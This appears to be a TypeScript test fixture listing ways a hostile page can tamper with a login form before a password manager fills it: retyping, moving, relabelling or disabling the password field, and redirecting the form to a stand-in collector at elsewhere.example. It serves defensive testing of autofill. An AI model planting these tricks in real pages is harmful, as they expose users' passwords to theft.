/** What a page may do to a form between its reading and its filling. Each runs in the page, sent there as text. */
export interface Meddling {
  readonly name: string;
  readonly run: () => void;
}

export const meddlings: readonly Meddling[] = [
  {
    name: "the password becomes plain text",
    run: () => document.querySelector("#pass")?.setAttribute("type", "text"),
  },
  {
    name: "the password becomes hidden",
    run: () => document.querySelector("#pass")?.setAttribute("type", "hidden"),
  },
  {
    name: "the password moves into another form",
    run: () => {
      const form = Object.assign(document.createElement("form"), { action: "/elsewhere" });
      document.body.append(form);
      form.append(document.querySelector("#pass") ?? "");
    },
  },
  {
    name: "the password is given to another form by its attribute",
    run: () => {
      document.body.insertAdjacentHTML("beforeend", '<form id="other" action="/elsewhere"></form>');
      document.querySelector("#pass")?.setAttribute("form", "other");
    },
  },
  {
    name: "the password is replaced by a copy",
    run: () => {
      const field = document.querySelector("#pass");
      field?.replaceWith(field.cloneNode(true));
    },
  },
  { name: "the password is taken out", run: () => document.querySelector("#pass")?.remove() },
  {
    name: "the password is called otherwise",
    run: () => {
      const label = document.querySelector('label[for="pass"]');
      if (label !== null) label.textContent = "Comment, shown to everybody";
    },
  },
  {
    name: "the password has another name",
    run: () => document.querySelector("#pass")?.setAttribute("name", "comment"),
  },
  {
    name: "the password becomes a new one",
    run: () => document.querySelector("#pass")?.setAttribute("autocomplete", "new-password"),
  },
  {
    name: "the password moves far away",
    run: () => document.querySelector("#pass")?.setAttribute("style", "position: absolute; top: 700px; left: 900px"),
  },
  { name: "the password is disabled", run: () => document.querySelector("#pass")?.setAttribute("disabled", "") },
  {
    name: "the password's form is disabled",
    run: () => {
      const fieldset = Object.assign(document.createElement("fieldset"), { disabled: true });
      document.querySelector("#pass")?.parentElement?.replaceWith(fieldset);
      fieldset.innerHTML = '<label for="pass">Password</label><input id="pass" name="password" type="password">';
    },
  },
  { name: "the password is read-only", run: () => document.querySelector("#pass")?.setAttribute("readonly", "") },
  {
    name: "the form is sent elsewhere",
    run: () => document.querySelector("#login")?.setAttribute("action", "https://elsewhere.example/collect"),
  },
  {
    name: "the form shows what is typed in its address",
    run: () => document.querySelector("#login")?.setAttribute("method", "get"),
  },
  {
    name: "the button sends elsewhere",
    run: () => document.querySelector("#login button")?.setAttribute("formaction", "https://elsewhere.example/collect"),
  },
  {
    name: "user name and password change their ids",
    run: () => {
      const user = document.querySelector("#user");
      const password = document.querySelector("#pass");
      if (user === null || password === null) return;
      user.id = "pass";
      password.id = "user";
    },
  },
  {
    name: "the document is written anew",
    run: () => {
      const html = document.documentElement.outerHTML;
      document.open();
      document.write(html);
      document.close();
    },
  },
];
